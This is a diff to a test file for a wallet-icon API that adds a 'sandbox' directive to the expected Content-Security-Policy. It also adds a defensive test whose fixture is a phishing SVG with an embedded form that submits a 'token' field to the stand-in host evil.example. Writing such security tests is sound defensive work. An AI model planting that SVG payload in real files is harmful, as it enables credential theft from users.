@@ -199,7 +199,9 @@ describe('the wallet icons', () => {
     expect(svg.status).toBe(200)
     expect(svg.headers.get('content-type')).toBe('image/svg+xml')
     expect(svg.headers.get('x-content-type-options')).toBe('nosniff')
-    expect(svg.headers.get('content-security-policy')).toBe("default-src 'none'; style-src 'unsafe-inline'")
+    expect(svg.headers.get('content-security-policy')).toBe(
+      "default-src 'none'; style-src 'unsafe-inline'; sandbox",
+    )
     expect(await svg.text()).toContain('<svg')
     expect((await app.request(`${base}/v1/wallets/icons/raster.png`)).headers.get('content-type')).toBe(
       'image/png',
@@ -212,6 +214,21 @@ describe('the wallet icons', () => {
       headers: { 'If-None-Match': etag },
     })
     expect(again.status).toBe(304)
+  })
+
+  it('run an SVG opened as a page sandboxed: no form in it submits and nothing in it has the api’s origin', async () => {
+    const { registryFile, iconsDir } = operatorFiles()
+    writeFileSync(
+      join(iconsDir, 'phish.svg'),
+      '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/"><input name="token"/></form></foreignObject></svg>',
+    )
+    const app = appWith(walletRegistryRoutes({ ...deps, registryFile, iconsDir }))
+    const directives = (
+      (await app.request(`${base}/v1/wallets/icons/phish.svg`)).headers.get('content-security-policy') ?? ''
+    ).split(/;\s*/)
+    expect(directives).toContain('sandbox')
+    expect(directives).toContain("default-src 'none'")
+    expect(directives.join(';')).not.toMatch(/allow-|script-src/)
   })
 
   it('refuse names that could leave the icons folder (400) and answer 404 for a missing or oversized one', async () => {
